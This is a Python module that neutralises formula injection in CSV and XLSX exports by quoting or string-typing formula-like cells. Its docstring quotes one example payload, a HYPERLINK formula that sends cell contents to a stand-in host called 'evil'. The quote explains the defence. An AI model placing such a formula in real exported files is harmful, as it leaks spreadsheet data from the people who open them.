"""The one defence against formula injection in every CSV and XLSX file Maxim writes.

Partner data reaches analysts' spreadsheets: a person "named" `=HYPERLINK("http://evil/?"&A1)`
would run as a formula when the file is opened, and could leak the sheet or run commands
(CSV injection, OWASP). Every writer passes its text cells through here:

- CSV: `csv_cell` prefixes a single quote to a value a spreadsheet would read as a formula;
- XLSX: `xlsx_append` writes every text cell as a string (openpyxl would make `=...` a
  formula), so the value reads back exactly as it was; numbers stay numbers.

A value is formula-like when it starts with `=`, `+`, `-`, `@`, a tab, a carriage return or a
line feed, or their full-width forms (U+FF1D and friends, which Excel accepts from East Asian input).
A plain number (`-3`, `+44`, `1.5e3`) is left alone: a spreadsheet reads it as the number.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    """True when a spreadsheet would run `text` as a formula (a plain signed number is not)."""
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> str:
    """A cell's text for a CSV file, quoted with `'` when a spreadsheet would run it as a formula."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    return f"'{text}" if formula_like(text) else text


def csv_row(values: Sequence[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def xlsx_append(sheet: Any, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl worksheet: numbers as numbers, everything else as plain text.

    openpyxl turns any string starting with `=` into a formula cell; setting the cell's type
    to string after assignment stores the text itself (a shared string), never a formula.
    Control characters XML cannot carry become U+FFFD instead of failing the whole file.
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell  # type: ignore[import-untyped]

    cells = []
    for value in values:
        if isinstance(value, int | float) and not isinstance(value, bool):
            cells.append(Cell(sheet, value=value))
            continue
        cell = Cell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", "" if value is None else str(value)))
        cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
